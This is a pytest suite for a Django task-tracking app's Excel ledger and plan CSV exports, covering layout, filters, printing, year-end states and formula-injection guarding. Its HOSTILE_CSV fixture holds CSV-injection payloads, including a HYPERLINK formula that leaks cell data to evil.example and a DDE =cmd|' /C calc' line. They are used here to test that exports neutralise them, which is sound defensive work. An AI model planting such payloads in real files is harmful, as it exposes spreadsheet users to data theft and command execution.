"""Files people hand on: the Excel ledger and the plan CSV (the Word documents: test_bulletin.py,
test_slip.py, test_documents.py)."""

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.db.models import Count, Q
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from imports.pipeline import plan_import
from tasks import selectors
from tasks.exports import LEDGER_COLUMNS, ledger_xlsx, spreadsheet_safe
from tasks.models import Plan, ProgressReport, ProgressStatus, ReviewState, Task, Unit
from tasks.selectors.exports import ExportRow
from tests.factories import CLOCK, report_make
from tests.test_resources import assert_no_live_cell

pytestmark = pytest.mark.django_db


@pytest.fixture
def reported(seed_plans, pinned_clock, office_user):
    """Item 4 (区科委) approved in progress; item 2 (区发展改革委) approved behind."""
    keji, fagai = Unit.objects.get(name="区科委"), Unit.objects.get(name="区发展改革委")
    t4 = Task.objects.get(plan__kind="annual", number="4")
    t2 = Task.objects.get(plan__kind="annual", number="2")
    report_make(
        task=t4,
        unit=keji,
        period=dt.date(2025, 6, 1),
        status=ProgressStatus.IN_PROGRESS,
        percent=60,
        progress_text="研发投入统计完成。",
        next_steps="走访企业。",
        review_state=ReviewState.APPROVED,
        reviewed_by=office_user,
        reported_at=dt.datetime(2025, 6, 10, 9, tzinfo=dt.UTC),
    )
    report_make(
        task=t2,
        unit=fagai,
        period=dt.date(2025, 6, 1),
        status=ProgressStatus.BEHIND,
        percent=20,
        progress_text="增速低于预期。",
        problems="外需偏弱。",
        review_state=ReviewState.APPROVED,
    )
    return t4, t2


def _xlsx(client, **params):
    response = client.get(reverse("tasks:task_export_xlsx"), params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def test_ledger_has_the_documents_columns_status_and_progress(reported, client_as, office_user):
    plan = Plan.objects.get(kind="annual")
    book = _xlsx(client_as(office_user), plan=plan.pk)
    sheet = book.active
    assert sheet["A1"].value == "2025年区委、区政府重点工作任务分解表任务台账"
    assert "规划：" in sheet["A2"].value and "导出时间" in sheet["A2"].value
    header = [c.value for c in sheet[3]]
    assert header[:8] == ["类别", "项目", "序号", "任务", "牵头领导", "牵头单位", "截止日期", "完成时限"]
    assert sheet.freeze_panes == "A4"
    rows = {row[2]: row for row in sheet.iter_rows(min_row=4, values_only=True)}
    assert len(rows) == 190
    four = rows["4"]
    assert (four[4], four[5], four[6], four[8], four[10], four[11], four[13], four[15]) == (
        "谭瑞琮",
        "区科委",
        "2025-12-31",
        "推进中",
        60,
        "研发投入统计完成。",
        "走访企业。",
        "duchashi",
    )
    assert rows["2"][8] == "滞后" and rows["2"][9] == "逾期或滞后" and rows["2"][12] == "外需偏弱。"
    # Category 一 covers items 1–6 and project 完成主要预期目标 items 2–6, as in the document:
    # written on each of their rows, not merged.
    assert {rows[n][0] for n in "123456"} == {rows["1"][0]} and rows["1"][0]
    assert {rows[n][1] for n in "23456"} == {rows["2"][1]} and rows["2"][1]


def test_ledger_follows_the_filters(reported, client_as, office_user):
    keji = Unit.objects.get(name="区科委")
    sheet = _xlsx(client_as(office_user), unit=keji.pk, light="red").active
    numbers = [row[3] for row in sheet.iter_rows(min_row=4, values_only=True)]  # 规划 comes first
    expected = (
        selectors.task_search_base(clock=CLOCK).filter(state="active", unit_links__unit=keji, light="red").count()
    )
    assert len(numbers) == expected
    assert "单位：区科委" in sheet["A2"].value and "灯号：逾期或滞后" in sheet["A2"].value


def test_formula_like_text_is_written_as_text(db, client_as, office_user):
    csv = (
        "标题：2030年区委、区政府重点工作任务分解表\n序号,类别,任务,牵头单位\n"
        '1,一、测试,=HYPERLINK("http://x"),区科委\n2,一、测试,+1 加一,区科委\n'
        "3,一、测试,-2 减二,区科委\n4,一、测试,@SUM(A1),区科委\n"
    )
    plan_import(data=csv.encode(), file_name="f.csv")
    sheet = _xlsx(client_as(office_user)).active
    cells = [row[4] for row in sheet.iter_rows(min_row=4)]  # 规划 comes first: no plan chosen
    # Text, and guarded by the apostrophe: a reader who edits the cell does not turn it into a formula.
    assert [c.value for c in cells] == ['\'=HYPERLINK("http://x")', "'+1 加一", "'-2 减二", "'@SUM(A1)"]
    assert {c.data_type for c in cells} == {"s"}


def _row(plan: str, category: str, project: str, number: str, light: str, **extra) -> ExportRow:
    return ExportRow(
        plan=plan,
        category=category,
        project=project,
        number=number,
        text=extra.pop("text", f"任务{number}"),
        leaders="谭瑞琮",
        units="区科委",
        status="推进中",
        light=light,
        light_label={"red": "逾期或滞后", "yellow": "临近截止", "green": "正常推进", "grey": "未报送"}[light],
        percent=extra.pop("percent", None),
        **extra,
    )


def _ledger(rows: list[ExportRow]):
    out = ledger_xlsx(rows=rows, title="台账标题", filters="规划：年度", generated_at=dt.datetime(2025, 6, 15, 10, 30))
    return openpyxl.load_workbook(io.BytesIO(out.read())).active


def _width(sheet, col: int) -> float:
    """A column's width as stored (neighbouring columns of one width share one <col> range)."""
    return next(d.width for d in sheet.column_dimensions.values() if d.min <= col <= d.max)


def test_ledger_layout_group_cells_and_colours():
    """What a reader of the file sees, from the renderer directly: group cells, styles, print setup."""
    rows = [
        _row("甲", "一、稳增长", "项目甲", "1", "red", percent=50, reported_at=dt.datetime(2025, 6, 10, 9, 0)),
        _row("甲", "一、稳增长", "项目甲", "2", "yellow"),
        _row("甲", "一、稳增长", "", "3", "green"),
        _row("甲", "一、稳增长", "", "4", "grey"),
        _row("甲", "=二、促改革", "项目甲", "=5", "grey", text="+1 加一"),  # same project name, new category
        _row("乙", "=二、促改革", "项目甲", "6", "green"),
    ]
    sheet = _ledger(rows)
    assert sheet.title == "任务台账"
    assert sheet["A1"].value == "台账标题" and sheet["A1"].font.b and sheet["A1"].font.sz == 14
    assert sheet["A2"].value == "筛选条件：规划：年度　　导出时间：2025-06-15 10:30"
    # Only the title and filter rows are merged: every body row carries its own category and
    # project, so a printed continuation page still names its group (was: A4:A7, B4:B5).
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:P1", "A2:P2"}
    assert [sheet.cell(row=r, column=1).value for r in range(4, 10)] == [
        "一、稳增长",
        "一、稳增长",
        "一、稳增长",
        "一、稳增长",
        "'=二、促改革",
        "'=二、促改革",
    ]
    assert [sheet.cell(row=r, column=2).value for r in range(4, 10)] == [
        "项目甲",
        "项目甲",
        None,
        None,
        "项目甲",
        "项目甲",
    ]
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:P9"
    for col, column in enumerate(LEDGER_COLUMNS, start=1):
        header = sheet.cell(row=3, column=col)
        assert header.value == column.name and header.font.b and header.fill.fgColor.rgb == "FFDDE3EA"
        assert header.alignment.horizontal == "center" and header.alignment.wrap_text
        # Stored with the cell padding Excel adds (12 characters → 12.71).
        assert column.width <= _width(sheet, col) < column.width + 1
    body = sheet["D4"]
    assert body.alignment.wrap_text and body.alignment.vertical == "top"
    for side in (body.border.left, body.border.right, body.border.top, body.border.bottom):
        assert side.style == "thin" and side.color.rgb == "FF999999"
    assert body.fill.patternType is None
    lights = [sheet.cell(row=r, column=10).fill.fgColor.rgb for r in range(4, 10)]
    light_colours = {"red": "FFF8D7DA", "yellow": "FFFFF3CD", "green": "FFD4EDDA", "grey": "FFE2E3E5"}
    assert lights == [light_colours[row.light] for row in rows]
    assert sheet["K4"].value == 50 and sheet["K5"].value is None
    assert sheet["O4"].value == "2025-06-10 09:00"
    for ref in ("A8", "A9", "C8", "D8"):  # formula-like text stays text, in every row of a group
        assert sheet[ref].data_type == "s"
    assert (sheet["C8"].value, sheet["D8"].value) == ("'=5", "'+1 加一")


def test_empty_ledger_has_title_and_header_only():
    sheet = _ledger([])
    assert [c.value for c in sheet[3]] == [column.name for column in LEDGER_COLUMNS]
    assert sheet.max_row == 3
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref is None
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:P1", "A2:P2"}


def test_plan_csv_download_imports_back_identically(seed_plans, client_as, office_user):
    for plan in Plan.objects.all():
        response = client_as(office_user).get(reverse("tasks:plan_csv", args=[plan.pk]))
        assert response["Content-Disposition"].startswith("attachment")
        report = plan_import(data=response.content, file_name="round-trip.csv", dry_run=True)
        assert report.diff.is_empty, report.diff.summary()


@pytest.mark.parametrize("data", ["reported", "closed"])
def test_export_queries_grow_only_with_batches(request, data, monkeypatch):
    request.getfixturevalue(data)  # with a closed plan, its final states come in the tasks' query
    ids = list(Task.objects.order_by("plan_id", "position").values_list("pk", flat=True))

    def count(batch):
        monkeypatch.setattr(selectors.exports, "BATCH", batch)
        with CaptureQueriesContext(connection) as captured:
            rows = list(selectors.export_rows(ids=ids, clock=CLOCK))
        assert len(rows) == 264
        return len(captured.captured_queries)

    one_batch, two_batches, six_batches = count(1000), count(132), count(45)
    # Per batch: the tasks with their status, their leaders, their lead units, the latest reports;
    # plan titles and category names only for plans and categories not seen in an earlier batch.
    per_batch = two_batches - one_batch
    assert 4 <= per_batch <= 6
    assert one_batch + 5 * 4 <= six_batches <= one_batch + 5 * 6


def test_exports_need_a_role(seed_plans, client_as, outsider_user):
    client = client_as(outsider_user)
    plan = Plan.objects.first()
    for url in (
        reverse("tasks:task_export_xlsx"),
        reverse("tasks:plan_bulletin", args=[plan.pk]),
        reverse("tasks:plan_csv", args=[plan.pk]),
    ):
        assert client.get(url).status_code == 403


# -- issue 14: formulas, raw values and UTC times in the files ----------------------------------

ASCII_WORD = re.compile(r"[A-Za-z_]{4,}")
STATUS_LABELS = {"未启动", "推进中", "已完成", "滞后", "持续推进", "未报送", "待审核"}
HOSTILE_CSV = (
    "标题：2030年区委、区政府重点工作任务分解表\n"
    "序号,类别,项目,任务,牵头领导,牵头单位,配合单位,备注,完成时限\n"
    '1,一、=测试,@项目,"=HYPERLINK(""http://evil.example/?leak=""&D5,""点击"")",=谭瑞琮,=cmd单位,+配合单位,-备注,@年底\n'
    "2,一、=测试,@项目,=cmd|' /C calc'!A0,-领导,@单位,区科委,=1,-\n"
    "3,一、=测试,@项目,+1 加一,谭瑞琮,区科委,,,\n"
    "4,一、=测试,@项目,@SUM(A1:A9),谭瑞琮,区科委,,,\n"
)


def _hostile_import() -> Plan:
    """A plan imported from a document whose every column starts like a formula."""
    assert plan_import(data=HOSTILE_CSV.encode(), file_name="hostile.csv").applied
    return Plan.objects.get(year_start=2030)


def test_ledger_guards_every_cell(db, pinned_clock, client_as, office_user):
    from django.contrib.auth import get_user_model

    plan = _hostile_import()
    task = plan.tasks.get(number="1")
    report_make(
        task=task,
        unit=task.unit_links.get(role="lead").unit,
        period=dt.date(2025, 6, 1),
        status=ProgressStatus.BEHIND,
        percent=10,
        progress_text="=1+1",
        problems="-问题",
        next_steps="@计划",
        review_state=ReviewState.APPROVED,
        reviewed_by=get_user_model().objects.create_user(username="+reviewer"),
        reported_at=dt.datetime(2025, 6, 10, 9, tzinfo=dt.UTC),
    )
    sheet = _xlsx(client_as(office_user), plan=plan.pk).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert assert_no_live_cell(cell.value for cell in cells) == len(cells)
    first = [cell.value for cell in sheet[4]]
    assert first[:6] == [
        "一、=测试",  # starts with 一: nothing to guard
        "'@项目",
        "1",
        '\'=HYPERLINK("http://evil.example/?leak="&D5,"点击")',
        "'=谭瑞琮",
        "'=cmd单位",
    ]
    assert (first[11], first[12], first[13], first[15]) == ("'=1+1", "'-问题", "'@计划", "'+reviewer")


def _keji_task_without_report(keji: Unit) -> Task:
    """An annual-plan task 区科委 alone leads that has no report yet."""
    return (
        Task.objects.filter(plan__kind="annual", unit_links__unit=keji, unit_links__role="lead", reports=None)
        .annotate(leads=Count("unit_links", filter=Q(unit_links__role="lead")))
        .filter(leads=1)
        .order_by("position")
        .first()
    )


def test_ledger_shows_status_labels_and_local_times(reported, client_as, office_user, liaison_user):
    keji = Unit.objects.get(name="区科委")
    t4, _ = reported
    ProgressReport.objects.filter(task=t4).update(reported_at=dt.datetime(2025, 6, 10, 17, 30, tzinfo=dt.UTC))
    # Another task of 区科委 reported this period and awaits review: it shows 待审核, as on the pages.
    t5 = _keji_task_without_report(keji)
    report_make(
        task=t5,
        unit=keji,
        period=dt.date(2025, 6, 1),
        status=ProgressStatus.IN_PROGRESS,
        percent=30,
        progress_text="已报送。",
        review_state=ReviewState.SUBMITTED,
        reported_by=liaison_user,
        reported_at=dt.datetime(2025, 6, 12, 1, tzinfo=dt.UTC),
    )
    sheet = _xlsx(client_as(office_user), plan=Plan.objects.get(kind="annual").pk).active
    rows = {row[2]: row for row in sheet.iter_rows(min_row=4, values_only=True)}
    assert rows[t5.number][8] == "待审核"
    assert rows["4"][8] == "推进中" and rows["4"][14] == "2025-06-11 01:30"  # 17:30 UTC is 01:30 in Shanghai
    for row in rows.values():
        for column in (8, 9, 14):  # 状态, 预警, 报送时间
            assert not ASCII_WORD.search(str(row[column] or "")), row
    assert {row[8] for row in rows.values()} <= STATUS_LABELS


def test_plan_csv_guards_every_cell_and_imports_back_identically(db, client_as, office_user):
    plan = _hostile_import()
    # Text that itself starts with the guard must come back exactly too.
    Task.objects.filter(plan=plan, number="3").update(text="'=引号开头的任务", note="''两个引号")
    response = client_as(office_user).get(reverse("tasks:plan_csv", args=[plan.pk]))
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert assert_no_live_cell(value for row in rows for value in row) > 40
    body = {row[0]: row for row in rows if row[0].isdigit()}
    assert body["1"][1:] == [
        "一、=测试",
        "'@项目",
        '\'=HYPERLINK("http://evil.example/?leak="&D5,"点击")',
        "'=谭瑞琮",
        "'=cmd单位",
        "'+配合单位",
        "'-备注",
        "'@年底",
    ]
    assert body["3"][3] == "''=引号开头的任务" and body["3"][7] == "'''两个引号"
    report = plan_import(data=response.content, file_name="round-trip.csv", dry_run=True)
    assert report.diff.is_empty, report.diff.summary()


@given(text=st.text(alphabet="'=+-@\t\r 甲a1", max_size=6))
def test_the_guard_is_undone_exactly_and_leaves_nothing_live(text):
    from imports.read import _unguard

    guarded = spreadsheet_safe(text)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert _unguard(guarded) == text  # what the plan CSV importer reads back


# -- issue 19: a ledger that prints well ------------------------------------------------------------

CJK_HEADER = re.compile(r"^[\u4e00-\u9fff%]+$")


def test_ledger_prints_landscape_one_page_wide_with_titles_and_gridlines(reported, client_as, office_user):
    sheet = _xlsx(client_as(office_user), plan=Plan.objects.get(kind="annual").pk).active
    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)  # 9 = A4
    # fitToWidth only counts when the sheet says "fit to page"; 0 pages tall = as many as it takes.
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert setup.fitToWidth in (None, 1) and int(setup.fitToHeight) == 0  # 1 wide is the format's default
    assert sheet.print_title_rows == "$1:$3"  # the title, the filters and the header on every page
    assert sheet.print_options.gridLines is True
    assert sheet.oddFooter.center.text == "第 &P 页，共 &N 页"
    header = [cell.value for cell in sheet[3]]
    assert all(CJK_HEADER.match(name) for name in header), header
    # Widths suit the content: the task and progress columns are wide, the number column narrow.
    widths = {name: _width(sheet, col) for col, name in enumerate(header, start=1)}
    assert widths["序号"] <= 6 and widths["任务"] >= 30 and widths["最新进展"] >= 25
    assert sum(widths.values()) <= 215  # about 75 % when fitted to the A4 width


def test_the_plan_ledger_repeats_its_groups_on_every_row_for_printing(seed_plans, client_as, office_user):
    """The 190-task plan printed: no body cell is merged (a merge over A4:A193 printed empty 类别
    and 项目 columns on every page after the first), each row names its category and, where the
    document has one, its project; the print setup stays."""
    plan = Plan.objects.get(kind="annual")
    book = _xlsx(client_as(office_user), plan=plan.pk)
    sheet = book.active
    tasks = Task.objects.filter(plan=plan, state="active").select_related("category", "project").order_by("pk")
    assert sheet.max_row - 3 == tasks.count() == 190
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:P1", "A2:P2"}  # title and filters only
    header = [cell.value for cell in sheet[3]]
    category, project, number = header.index("类别") + 1, header.index("项目") + 1, header.index("序号") + 1
    groups = {t.number: (t.category_id, t.project_id) for t in tasks}
    seen: dict[tuple, set] = {}
    for r in range(4, sheet.max_row + 1):
        category_id, project_id = groups[str(sheet.cell(row=r, column=number).value)]
        category_text, project_text = sheet.cell(row=r, column=category).value, sheet.cell(row=r, column=project).value
        assert category_text, r  # never left empty under a merge above
        assert bool(project_text) == bool(project_id), r
        seen.setdefault(("category", category_id), set()).add(category_text)
        if project_id:
            seen.setdefault(("project", project_id), set()).add(project_text)
    assert all(len(texts) == 1 for texts in seen.values())  # one group, one text, on each of its rows
    assert sum(1 for key in seen if key[0] == "project") > 5  # the plan's projects are there to check
    assert sheet.print_title_rows == "$1:$3" and sheet.page_setup.orientation == "landscape"
    assert sheet.oddFooter.center.text == "第 &P 页，共 &N 页"


def test_wrapped_text_gets_a_row_height_that_shows_it():
    long_text = "加快推进重点项目建设，" * 12  # 132 characters in a 38-unit column: about 7 lines
    rows = [
        _row("甲", "一、稳增长", "", "1", "green", text="短任务"),
        _row("甲", "一、稳增长", "", "2", "red", text=long_text),
        _row("甲", "一、稳增长", "", "3", "red", text="短任务", progress_text="第一行\n第二行\n第三行"),
    ]
    sheet = _ledger(rows)
    assert sheet.row_dimensions[4].height is None  # one line: Excel's own height
    tall = sheet.row_dimensions[5].height
    assert tall is not None and tall >= 7 * 13.5, tall
    assert sheet.row_dimensions[6].height == 3 * 13.5 + 3  # three lines written with line breaks
    body_font = sheet["D5"].font
    assert (body_font.name, body_font.sz) == ("宋体", 10)


def test_unit_ledger_names_the_unit_and_has_plan_and_due_date(reported, client_as, office_user):
    keji = Unit.objects.get(name="区科委")
    sheet = _xlsx(client_as(office_user), unit=keji.pk).active
    assert sheet["A1"].value == "区科委任务台账"
    header = [cell.value for cell in sheet[3]]
    assert header[0] == "规划" and "截止日期" in header
    body = list(sheet.iter_rows(min_row=4, values_only=True))
    plans = {row[0] for row in body if row[0]}
    assert plans == set(Plan.objects.values_list("title", flat=True))  # both seed plans, named
    due = [row[header.index("截止日期")] for row in body]
    assert "2025-12-31" in due and all(value is None or re.fullmatch(r"\d{4}-\d{2}-\d{2}", value) for value in due)
    plan = Plan.objects.get(kind="annual")
    both = _xlsx(client_as(office_user), unit=keji.pk, plan=plan.pk).active
    assert both["A1"].value == f"区科委（{plan.title}）任务台账"
    assert both["A3"].value == "类别"  # one plan: the title says which, no 规划 column


def test_the_ledgers_rows_agree_with_the_pages_task_rows(progressed, office_user):
    """selectors.export_rows (value queries, for 20,000-task ledgers) says what the pages' task rows
    say: the same status label, light, percent, leaders and lead units for every task."""
    from tasks.choices import CurrentStatus

    ProgressReport.objects.filter(pk__in=ProgressReport.objects.order_by("pk").values("pk")[:40]).update(
        reviewed_by=office_user
    )
    ids = list(Task.objects.order_by("plan_id", "position").values_list("pk", flat=True))
    clock = CLOCK
    bulk = list(selectors.export_rows(ids=ids, clock=clock))
    pages = selectors.task_rows(ids=ids, clock=clock)
    assert [r.task_id for r in bulk] == [r.id for r in pages] == ids
    for exported, shown in zip(bulk, pages, strict=True):
        assert exported.status == CurrentStatus(shown.status).label
        assert (exported.light, exported.percent) == (shown.light, shown.percent)
        assert exported.leaders == "、".join(leader.name for leader in shown.leaders)
        assert exported.units == "、".join(unit.name for unit in shown.lead_units)
    assert len(bulk) == 264 and any("\n" in row.progress_text for row in bulk)  # several lead units reported
    assert any(row.reviewer == "duchashi" for row in bulk) and {row.light for row in bulk} >= {"red", "yellow"}


def test_control_characters_are_dropped_not_a_failed_export():
    sheet = _ledger([_row("甲", "一、稳增长", "", "1", "red", text="响\x07铃\x0c分页", problems="\x00问题")])
    assert (sheet["D4"].value, sheet["M4"].value) == ("响铃分页", "问题")


# -- 年终办结: a closed plan exports its final states ------------------------------------------------


@pytest.fixture
def closed(reported, office_user) -> Plan:
    """The 2025 annual plan closed, its active tasks' confirmed final states cycling through all five."""
    from yearend import services as yearend
    from yearend.models import FinalState

    plan = Plan.objects.get(kind="annual")
    states = list(FinalState)
    for index, task in enumerate(Task.objects.filter(plan=plan, state="active").order_by("position")):
        yearend.outcome_confirm(user=office_user, task=task, state=states[index % len(states)], note="年终确认。")
    yearend.plan_close(user=office_user, plan=plan, note="2025年度办结。")
    return plan


def _final_labels(plan: Plan) -> dict[str, str]:
    from yearend.models import FinalState, TaskOutcome

    return {
        o.task.number: FinalState(o.state).label
        for o in TaskOutcome.objects.filter(task__plan=plan).select_related("task")
    }


def test_a_closed_plans_ledger_gives_its_final_states_instead_of_lights(closed, client_as, office_user):
    client = client_as(office_user)
    # The 年终办结 page links the plan's ledger; it lists the closed plan's tasks.
    page = client.get(reverse("yearend:plan", args=[closed.pk])).content.decode()
    link = f"{reverse('tasks:task_export_xlsx')}?plan={closed.pk}"
    assert f'<a href="{link}" data-export="xlsx">任务台账（Excel）</a>' in page
    sheet = _xlsx(client, plan=closed.pk).active
    header = [c.value for c in sheet[3]]
    assert header[8:12] == ["状态", "预警", "办结状态", "完成%"]
    final = _final_labels(closed)
    rows = list(sheet.iter_rows(min_row=4))
    assert len(rows) == Task.objects.filter(plan=closed, state="active").count() == len(final) == 190
    light, state = header.index("预警"), header.index("办结状态")
    for row in rows:
        number = row[2].value
        assert row[state].value == final[number], number
        assert row[light].value is None and row[light].fill.fill_type is None, number  # no light, no colour
    assert {row[state].value for row in rows} == {"已完成", "基本完成", "未完成", "结转下年", "不再实施"}
    four = next(row for row in rows if row[2].value == "4")
    assert (four[8].value, four[11].value) == ("推进中", 60)  # the last reported status stays


def test_a_list_across_open_and_closed_plans_says_which_are_closed(closed, client_as, office_user):
    sheet = _xlsx(client_as(office_user), state="all").active  # 全部（含已撤销）: both seed plans
    header = [c.value for c in sheet[3]]
    assert header[:1] == ["规划"] and header[9:12] == ["状态", "预警", "办结状态"]
    final = _final_labels(closed)
    by_plan: dict[str, list] = {}
    title = ""
    for row in sheet.iter_rows(min_row=4):
        title = row[0].value or title  # 规划 is merged down: a run's first cell names it
        by_plan.setdefault(title, []).append(row)
    assert set(by_plan) == set(Plan.objects.values_list("title", flat=True))
    for title, rows in by_plan.items():
        if title == closed.title:
            assert all(row[11].value == final[row[3].value] and row[10].value is None for row in rows)
        else:  # the open plan: its lights, no final state
            assert all(row[11].value is None and row[10].value for row in rows)
            assert any(row[10].fill.fill_type == "solid" for row in rows)


def test_the_ledgers_final_states_agree_with_the_year_end_page(closed, office_user):
    """export_rows gives a closed plan's tasks the final states its 年终办结 table shows (and
    none to an open plan's, nor to a plan reopened)."""
    from yearend import services as yearend
    from yearend.selectors import outcome_rows

    ids = list(Task.objects.order_by("plan_id", "position").values_list("pk", flat=True))
    rows = {row.task_id: row for row in selectors.export_rows(ids=ids, clock=CLOCK)}
    shown = {row.task_id: row.state_label for row in outcome_rows(plan=closed)}
    for task_id, row in rows.items():
        if task_id in shown:
            assert (row.plan_closed, row.final_state) == (True, shown[task_id])
        else:
            assert (row.plan_closed, row.final_state) == (False, "")
    yearend.plan_reopen(user=office_user, plan=closed)
    assert not any(row.plan_closed or row.final_state for row in selectors.export_rows(ids=ids, clock=CLOCK))
    sheet = _ledger(list(selectors.export_rows(ids=ids, clock=CLOCK)))
    assert "办结状态" not in [c.value for c in sheet[3]]


def test_a_filter_the_form_refuses_gives_no_ledger_but_the_list_with_the_error(seed_plans, client_as, office_user):
    client = client_as(office_user)
    response = client.get(reverse("tasks:task_export_xlsx"), {"plan": "abc"})
    assert response.status_code == 302
    assert response["Location"] == reverse("tasks:task_search") + "?plan=abc"
    page = client.get(response["Location"]).content.decode()
    assert re.search(r"筛选条件有误，未生成台账：规划：[^<]*有效", page), page[:200]


def test_the_reviewer_is_named_by_their_name_else_their_login(db, pinned_clock):
    """审核人 is the person (the account's 姓名, accounts.names), not the login name "office"."""
    from django.contrib.auth import get_user_model

    from tasks.selectors import export_rows

    plan = _hostile_import()
    task = plan.tasks.get(number="1")
    reviewer = get_user_model().objects.create_user(username="chenjing", first_name="陈静")
    report_make(
        task=task,
        unit=task.unit_links.get(role="lead").unit,
        period=dt.date(2025, 6, 1),
        status=ProgressStatus.IN_PROGRESS,
        percent=10,
        progress_text="推进中。",
        review_state=ReviewState.APPROVED,
        reviewed_by=reviewer,
        reported_at=dt.datetime(2025, 6, 10, 9, tzinfo=dt.UTC),
    )
    assert [row.reviewer for row in export_rows(ids=[task.pk])] == ["陈静"]
    get_user_model().objects.filter(pk=reviewer.pk).update(first_name="")
    assert [row.reviewer for row in export_rows(ids=[task.pk])] == ["chenjing"]


@pytest.mark.django_db
def test_the_title_row_is_guarded_like_every_other_cell(client_as, office_user):
    """A unit or leader named like a formula ("=3+3单位", "@领导") is the title's first word."""
    from tasks.models import Leader

    unit = Unit.objects.create(name="=3+3单位")
    leader = Leader.objects.create(name="@领导")
    client = client_as(office_user)
    by_unit = _xlsx(client, unit=unit.pk).active
    assert by_unit["A1"].value == "'=3+3单位任务台账"
    by_leader = _xlsx(client, leader=leader.pk).active
    assert by_leader["A1"].value == "'@领导同志任务台账"
    for sheet in (by_unit, by_leader):
        assert_no_live_cell(cell.value for row in sheet.iter_rows() for cell in row)
